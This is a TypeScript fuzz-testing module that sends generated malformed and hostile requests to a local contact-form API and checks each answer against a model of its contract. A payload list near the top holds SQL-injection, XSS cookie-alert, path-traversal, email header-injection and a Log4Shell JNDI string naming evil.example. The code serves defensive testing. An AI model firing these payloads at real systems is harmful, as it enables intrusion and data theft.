/**
 * Property-based fuzzing of `POST /api/contact` over real HTTP against the built server
 * (fast-check). Generated requests: valid enquiries, fields of the wrong type, missing and extra
 * fields, huge and unicode strings, control characters, nested JSON, wrong content types,
 * broken UTF-8, truncated JSON, path/SQL/HTML/header-injection payloads, foreign origins.
 *
 * Each answer is checked against a model of the API's contract (order: cross-site 403,
 * content type (or a charset other than UTF-8) 415, size 413, UTF-8/JSON 400, not an object 400, validation 400 with per-field
 * messages, honeypot 201 unstored, 201 stored): never 5xx, always JSON, exactly the
 * modelled status. Afterwards the stored rows are compared with the accepted enquiries (each
 * exactly once) and checked against the field rules independently of the schema.
 *
 * Used by tests/integration/fuzz-contact.test.ts (FUZZ_RUNS, default 300) and scripts/stress.ts.
 * The server must run with MIN_FILL_MS=0 and a rate limit above the run count.
 */
import http from 'node:http';
import fc from 'fast-check';
import { contactFields, contactLimits, contactSchema, HONEYPOT_FIELD } from '../../src/lib/contact-schema.ts';
import { interests } from '../../src/content/interests.ts';

export const FUZZ_SITE = 'https://www.schlafmanufaktur.example';
const MAX_BODY = 16 * 1024;

export interface FuzzRequest {
  contentType: string | undefined;
  origin: string | undefined;
  secFetchSite: string | undefined;
  body: Buffer;
  label: string;
}

export interface FuzzAnswer {
  status: number;
  contentType: string;
  json: unknown;
  nosniff: boolean;
}

export interface ExpectedOutcome {
  status: number;
  /** The enquiry that must be stored (trimmed), when the request is a valid, non-spam one. */
  stored: Record<string, string> | null;
  /** 400 from validation (per-field messages expected). */
  fields: boolean;
}

// ---------------------------------------------------------------------------------------------
// Generators

const PAYLOADS = [
  "'; DROP TABLE enquiries; --",
  "Robert'); DELETE FROM outbox; --",
  '1 OR 1=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg onload=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/zero',
  'file:///etc/shadow',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%00%0d%0a',
  'x\r\nBcc: victim@example.com',
  'a\u0000b',
  'lone \uD800 surrogate',
  '\u202Egnp.exe',
  '\uFEFFBOM',
  '\uD83D\uDE00 Grüße, Straße, Œuvre',
  '__proto__',
  'constructor',
];

const controlChars = fc.string({
  unit: fc.constantFrom(
    '\u0000',
    '\u0001',
    '\u0007',
    '\b',
    '\t',
    '\n',
    '\r',
    '\u001b',
    '\u007f',
    '\u0085',
    '\u2028',
    'a',
  ),
  minLength: 1,
  maxLength: 20,
});

const nested: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  node: fc.oneof(
    { depthSize: 'small' },
    fc.jsonValue({ maxDepth: 1 }),
    fc.array(tie('node'), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 5 }), tie('node'), { maxKeys: 3 }),
  ),
})).node;

const safeText = (max: number) =>
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: Math.min(max, 60) }).filter((s) => s.trim().length > 0);

const validEnquiry = fc.record({
  firstName: fc.oneof(safeText(100), fc.constantFrom('Erika', 'Jürgen', 'Zoë', ' Ångström ')),
  lastName: fc.oneof(safeText(100), fc.constantFrom('Müller', "O'Brien", 'Nguyễn')),
  email: fc.oneof(
    fc.emailAddress().filter((e) => e.length <= 254),
    fc.constantFrom('erika.mueller@example.de', ' kunde@beispiel.example '),
  ),
  phone: fc.oneof(fc.constant(''), fc.constantFrom('+49 271 123456', '0271/12 34-5', '(0)271.1')),
  interest: fc.constantFrom(...interests),
  message: fc.oneof(
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 400 }).filter((s) => s.trim().length > 0),
    fc.constantFrom(...PAYLOADS.filter((p) => p.trim().length > 0)),
  ),
});

/** A field value of any kind: valid, wrong type, huge, unicode, control characters, payloads. */
function mutated(valid: fc.Arbitrary<string>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 4, arbitrary: valid },
    fc.constant(undefined),
    fc.constant(null),
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.array(fc.string({ maxLength: 10 }), { maxLength: 3 }),
    nested,
    fc.constant(''),
    fc.constant('   \t  '),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 300 }),
    fc.string({ unit: 'grapheme', minLength: 90, maxLength: 1200 }),
    fc.integer({ min: 4990, max: 5100 }).map((n) => 'x'.repeat(n)),
    fc.integer({ min: 95, max: 260 }).map((n) => 'ä'.repeat(n)),
    controlChars,
    fc.constantFrom(...PAYLOADS),
    fc.tuple(valid, fc.constantFrom(...PAYLOADS)).map(([v, p]) => `${v}${p}`),
  );
}

const enquiryLike = fc
  .record({
    valid: validEnquiry,
    mutate: fc.record(
      {
        firstName: mutated(safeText(100)),
        lastName: mutated(safeText(100)),
        email: mutated(fc.emailAddress()),
        phone: mutated(
          fc.constantFrom('+49 271 123456', '', '+49\n271 1', '0271\t12 34', '0271\u2028 12', '0271\u00a012'),
        ),
        interest: mutated(fc.constantFrom(...interests, 'Wasserbett ', 'boxspringbett', 'Auto')),
        message: mutated(safeText(5000)),
      },
      { requiredKeys: [] },
    ),
    extra: fc.dictionary(
      fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('id', 'createdAt', 'isAdmin', '__proto__', 'constructor')),
      fc.jsonValue({ maxDepth: 2 }),
      { maxKeys: 3 },
    ),
    honeypot: fc.oneof(
      { weight: 6, arbitrary: fc.constant(undefined) },
      fc.constant(''),
      fc.string({ minLength: 1, maxLength: 20 }),
      fc.integer(),
      fc.constant(null),
    ),
    fillMs: fc.oneof(
      { weight: 6, arbitrary: fc.integer({ min: 0, max: 600_000 }) },
      fc.constant(undefined),
      fc.string({ maxLength: 5 }),
      fc.constant(null),
    ),
  })
  .map(({ valid, mutate, extra, honeypot, fillMs }) => {
    const obj: Record<string, unknown> = { ...extra, ...valid };
    for (const [k, v] of Object.entries(mutate)) {
      if (v === undefined) delete obj[k];
      else obj[k] = v;
    }
    if (honeypot !== undefined) obj[HONEYPOT_FIELD] = honeypot;
    else delete obj[HONEYPOT_FIELD];
    if (fillMs !== undefined) obj.fillMs = fillMs;
    else delete obj.fillMs;
    return obj;
  });

/** The body bytes: JSON of an enquiry-like object, or something broken. */
const bodyArb: fc.Arbitrary<{ body: Buffer; label: string }> = fc.oneof(
  { weight: 10, arbitrary: enquiryLike.map((o) => ({ body: Buffer.from(JSON.stringify(o)), label: 'enquiry' })) },
  validEnquiry.map((o) => ({ body: Buffer.from(JSON.stringify(o)), label: 'valid' })),
  fc.jsonValue().map((v) => ({ body: Buffer.from(JSON.stringify(v) ?? 'null'), label: 'json-value' })),
  fc.tuple(enquiryLike, fc.nat()).map(([o, cut]) => {
    const s = JSON.stringify(o);
    return { body: Buffer.from(s.slice(0, cut % Math.max(1, s.length))), label: 'truncated' };
  }),
  fc.tuple(validEnquiry, fc.constantFrom(0xff, 0xc3, 0xe2, 0xf0, 0x80), fc.nat()).map(([o, byte, at]) => {
    const b = Buffer.from(JSON.stringify(o));
    const i = at % b.length;
    return { body: Buffer.concat([b.subarray(0, i), Buffer.from([byte]), b.subarray(i)]), label: 'broken-utf8' };
  }),
  fc.uint8Array({ maxLength: 200 }).map((a) => ({ body: Buffer.from(a), label: 'random-bytes' })),
  fc
    .integer({ min: 1, max: 8000 })
    .map((n) => ({ body: Buffer.from('['.repeat(n) + ']'.repeat(n)), label: 'deep-array' })),
  fc.integer({ min: 1, max: 3000 }).map((n) => ({
    body: Buffer.from('{"a":'.repeat(n) + '1' + '}'.repeat(n)),
    label: 'deep-object',
  })),
  fc.tuple(validEnquiry, fc.integer({ min: 16_000, max: 40_000 })).map(([o, n]) => ({
    body: Buffer.from(JSON.stringify({ ...o, message: 'm'.repeat(n) })),
    label: 'oversized',
  })),
  validEnquiry.map((o) => ({ body: Buffer.from('\uFEFF' + JSON.stringify(o)), label: 'bom' })),
  validEnquiry.map((o) => ({ body: Buffer.from(JSON.stringify(o), 'utf16le'), label: 'utf16' })),
  fc.constant({ body: Buffer.alloc(0), label: 'empty' }),
  validEnquiry.map((o) => ({
    body: Buffer.from(new URLSearchParams(o as unknown as Record<string, string>).toString()),
    label: 'form-encoded',
  })),
);

const contentTypeArb = fc.oneof(
  { weight: 12, arbitrary: fc.constant('application/json') },
  { weight: 3, arbitrary: fc.constant('application/json; charset=utf-8') },
  fc.constantFrom(
    undefined,
    'APPLICATION/JSON',
    'application/json;charset=UTF-16',
    'application/json; charset=iso-8859-1',
    'application/json; charset="UTF-8"',
    'application/json;charset=utf8',
    'text/plain',
    'text/plain;charset=utf-8',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=xyz',
    'application/jsonx',
    'application/json-patch+json',
    'text/json',
    'application/xml',
    '',
    '*/*',
  ),
);

function fuzzRequestArb(ownOrigin: string): fc.Arbitrary<FuzzRequest> {
  return fc
    .record({
      b: bodyArb,
      contentType: contentTypeArb,
      origin: fc.oneof(
        { weight: 8, arbitrary: fc.constant(undefined) },
        { weight: 2, arbitrary: fc.constant(ownOrigin) },
        fc.constantFrom(FUZZ_SITE, 'https://evil.example', 'null', 'http://localhost', FUZZ_SITE.toUpperCase()),
      ),
      secFetchSite: fc.oneof(
        { weight: 8, arbitrary: fc.constant(undefined) },
        fc.constantFrom('same-origin', 'none', 'same-site', 'cross-site'),
      ),
    })
    .map(({ b, contentType, origin, secFetchSite }) => ({ ...b, contentType, origin, secFetchSite }));
}

// ---------------------------------------------------------------------------------------------
// The model of the contract

function expectedOutcome(req: FuzzRequest, ownOrigins: Set<string>): ExpectedOutcome {
  const r = (status: number, stored: Record<string, string> | null = null, fields = false) => ({
    status,
    stored,
    fields,
  });
  if (req.secFetchSite === 'cross-site') return r(403);
  if (req.origin !== undefined && !ownOrigins.has(req.origin.toLowerCase())) return r(403);
  if (!/^application\/json\s*(;|$)/i.test(req.contentType ?? '')) return r(415);
  // JSON in UTF-8 only: a declared charset must be one of the Encoding Standard's UTF-8 labels.
  const charset = /;\s*charset\s*=\s*"?([^;"\s]*)/i.exec(req.contentType ?? '')?.[1];
  if (
    charset !== undefined &&
    !/^(utf-?8|unicode-1-1-utf-8|unicode11utf8|unicode20utf8|x-unicode20utf8)$/i.test(charset)
  )
    return r(415);
  if (req.body.length > MAX_BODY) return r(413);
  let text: string;
  try {
    text = new TextDecoder('utf-8', { fatal: true }).decode(req.body);
  } catch {
    return r(400);
  }
  let data: unknown;
  try {
    data = JSON.parse(text);
  } catch {
    return r(400);
  }
  if (typeof data !== 'object' || data === null || Array.isArray(data)) return r(400);
  // The fields first (400 per field), counted as typed (a CRLF or lone CR is one line break),
  // then the honeypot (201, nothing stored); with MIN_FILL_MS=0 the fill time is not judged.
  const typed: Record<string, unknown> = { ...data };
  for (const field of contactFields) {
    const value = typed[field];
    if (typeof value === 'string') typed[field] = value.replace(/\r\n?/g, '\n');
  }
  const parsed = contactSchema.safeParse(typed);
  if (!parsed.success) return r(400, null, true);
  const honeypot = (data as Record<string, unknown>)[HONEYPOT_FIELD];
  if (honeypot !== undefined && honeypot !== '') return r(201);
  const e = parsed.data;
  return r(201, {
    firstName: e.firstName,
    lastName: e.lastName,
    email: e.email,
    phone: e.phone,
    interest: e.interest,
    message: e.message,
  });
}

/** Field rules checked on stored rows, written out independently of the zod schema. */
function rowViolations(row: Record<string, unknown>): string[] {
  const problems: string[] = [];
  const str = (k: string) => (typeof row[k] === 'string' ? row[k] : null);
  // eslint-disable-next-line no-control-regex -- the point: control characters must not be stored
  const control = /[\u0000-\u001f\u007f-\u009f]/;
  for (const k of ['firstName', 'lastName']) {
    const v = str(k);
    if (v === null || v.length === 0 || v.length > contactLimits.name) problems.push(`${k} length`);
    else if (v !== v.trim()) problems.push(`${k} not trimmed`);
    else if (control.test(v)) problems.push(`${k} control character`);
  }
  const email = str('email');
  if (email === null || email.length > contactLimits.email || !/^[^\s@]+@[^\s@]+\.[^\s@]+$/.test(email)) {
    problems.push('email');
  }
  const phone = row.phone;
  if (phone !== null && phone !== undefined && (typeof phone !== 'string' || !/^[0-9+()/.\- ]{1,40}$/.test(phone))) {
    problems.push('phone');
  }
  if (!(interests as readonly string[]).includes(String(row.interest))) problems.push('interest');
  const message = str('message');
  if (message === null || message.trim().length === 0 || message.length > contactLimits.message) {
    problems.push('message length');
  } else if (message !== message.trim()) problems.push('message not trimmed');
  return problems;
}

// ---------------------------------------------------------------------------------------------
// Running

function sendRaw(port: number, req: FuzzRequest): Promise<FuzzAnswer> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string | number> = { 'content-length': req.body.length };
    if (req.contentType !== undefined) headers['content-type'] = req.contentType;
    if (req.origin !== undefined) headers.origin = req.origin;
    if (req.secFetchSite !== undefined) headers['sec-fetch-site'] = req.secFetchSite;
    const r = http.request({ host: '127.0.0.1', port, path: '/api/contact', method: 'POST', headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json: unknown;
        try {
          json = JSON.parse(text);
        } catch {
          json = { __notJson: text.slice(0, 200) };
        }
        resolve({
          status: res.statusCode ?? 0,
          contentType: String(res.headers['content-type'] ?? ''),
          json,
          nosniff: res.headers['x-content-type-options'] === 'nosniff',
        });
      });
    });
    // The server may answer (413) before reading everything and close; that is an answer too.
    r.on('error', reject);
    r.end(req.body);
  });
}

/** Problems with one answer, given the model's expectation (empty when it conforms). */
function answerProblems(answer: FuzzAnswer, expected: ExpectedOutcome): string[] {
  const problems: string[] = [];
  if (answer.status >= 500) problems.push(`5xx: ${answer.status}`);
  if (answer.status !== expected.status) problems.push(`status ${answer.status}, expected ${expected.status}`);
  if (!/^application\/json/i.test(answer.contentType)) problems.push(`content-type ${answer.contentType}`);
  if (!answer.nosniff) problems.push('no nosniff header');
  const body = answer.json as Record<string, unknown> | null;
  if (typeof body !== 'object' || body === null || '__notJson' in body) problems.push('body is not a JSON object');
  else if (answer.status >= 400 && typeof body.error !== 'string') problems.push('no error message');
  else if (expected.fields && answer.status === 400) {
    const fields = body.fields as Record<string, unknown> | undefined;
    const keys = Object.keys(fields ?? {});
    if (keys.length === 0) problems.push('validation 400 without field messages');
    if (keys.some((k) => !(contactFields as readonly string[]).includes(k) || typeof fields![k] !== 'string')) {
      problems.push(`unexpected field messages ${JSON.stringify(fields)}`);
    }
  }
  return problems;
}

export interface FuzzReport {
  runs: number;
  statuses: Record<string, number>;
  labels: Record<string, number>;
  accepted: Record<string, string>[];
  /** Answers that broke the contract, in all, and by kind of problem. */
  nonConforming: number;
  failureKinds: Record<string, number>;
  /** The first few non-conforming cases (or a generator error), null when all conformed. */
  failure: string | null;
  seed: number;
  durationMs: number;
}

/** Runs `runs` generated requests against the server, recording every non-conforming answer. */
export async function runContactFuzz(opts: { port: number; runs: number; seed?: number }): Promise<FuzzReport> {
  const ownOrigin = `http://127.0.0.1:${opts.port}`;
  const ownOrigins = new Set([FUZZ_SITE, ownOrigin, `https://127.0.0.1:${opts.port}`]);
  const statuses: Record<string, number> = {};
  const labels: Record<string, number> = {};
  const accepted: Record<string, string>[] = [];
  const acceptedKeys = new Set<string>();
  const failures = new Map<string, number>();
  const samples: string[] = [];
  const seed = opts.seed ?? Date.now() % 2 ** 31;
  // Known-dangerous cases run first in every run, whatever the seed.
  const example = (label: string, obj: unknown): [FuzzRequest] => [
    {
      contentType: 'application/json',
      origin: undefined,
      secFetchSite: undefined,
      body: Buffer.from(JSON.stringify(obj)),
      label,
    },
  ];
  const base = {
    firstName: 'Erika',
    lastName: 'Müller',
    email: 'erika@example.de',
    interest: interests[0],
    message: 'Guten Tag',
  };
  const examples = [
    example('example-nul-message', { ...base, message: 'a\u0000b' }),
    example('example-nul-name', { ...base, lastName: 'M\u0000' }),
    example('example-lone-surrogate', { ...base, message: 'x \uD800 y' }),
    example('example-sql', { ...base, message: "'); DROP TABLE enquiries; --" }),
  ];
  const started = performance.now();
  const result = await fc.check(
    fc.asyncProperty(fuzzRequestArb(ownOrigin), async (req) => {
      const expected = expectedOutcome(req, ownOrigins);
      const answer = await sendRaw(opts.port, req);
      const problems = answerProblems(answer, expected);
      if (problems.length > 0) {
        // Recorded, not thrown: the run goes on, so one known defect does not hide others.
        const kind = problems.join('; ');
        failures.set(kind, (failures.get(kind) ?? 0) + 1);
        if (samples.length < 5) {
          samples.push(
            `${kind} for ${req.label} ${JSON.stringify({ ...req, body: req.body.toString('utf8').slice(0, 300) })} -> ${JSON.stringify(answer.json).slice(0, 200)}`,
          );
        }
      }
      statuses[answer.status] = (statuses[answer.status] ?? 0) + 1;
      labels[req.label] = (labels[req.label] ?? 0) + 1;
      // A replay of an enquiry accepted before (the same fields within the replay window, which
      // outlasts a run) is answered as accepted and stored once (enquiry-core.ts).
      if (expected.stored && answer.status === 201 && !acceptedKeys.has(storedKey(expected.stored))) {
        acceptedKeys.add(storedKey(expected.stored));
        accepted.push(expected.stored);
      }
    }),
    // No shrinking: a replayed request would not be stored again.
    { numRuns: opts.runs, seed, endOnFailure: true, examples },
  );
  return {
    runs: result.numRuns,
    statuses,
    labels,
    accepted,
    nonConforming: [...failures.values()].reduce((x, y) => x + y, 0),
    failureKinds: Object.fromEntries(failures),
    failure: result.failed
      ? `${String(result.errorInstance)}\nseed ${seed}, path ${result.counterexamplePath}`
      : samples.length > 0
        ? `${samples.join('\n')}\nseed ${seed}`
        : null,
    seed,
    durationMs: Math.round(performance.now() - started),
  };
}

/** What makes a stored enquiry the same enquiry: every field as stored. */
const storedKey = (r: Record<string, unknown>) =>
  JSON.stringify([r.firstName, r.lastName, r.email, r.phone || '', r.interest, r.message]);

/** Compares stored rows with the accepted enquiries: each exactly once, none else, all valid. */
export function compareStored(
  rows: Record<string, unknown>[],
  accepted: Record<string, string>[],
): { missing: number; unexpected: number; invalid: string[]; unexpectedSamples: string[] } {
  const key = storedKey;
  const want = new Map<string, number>();
  for (const a of accepted) want.set(key(a), (want.get(key(a)) ?? 0) + 1);
  let unexpected = 0;
  const unexpectedSamples: string[] = [];
  const invalid: string[] = [];
  for (const row of rows) {
    const k = key(row);
    const left = want.get(k) ?? 0;
    if (left > 0) want.set(k, left - 1);
    else if (++unexpected <= 3) unexpectedSamples.push(k.slice(0, 200));
    const v = rowViolations(row);
    if (v.length) invalid.push(`${v.join(',')}: ${k.slice(0, 200)}`);
  }
  const missing = [...want.values()].reduce((a, b) => a + b, 0);
  return { missing, unexpected, invalid, unexpectedSamples };
}
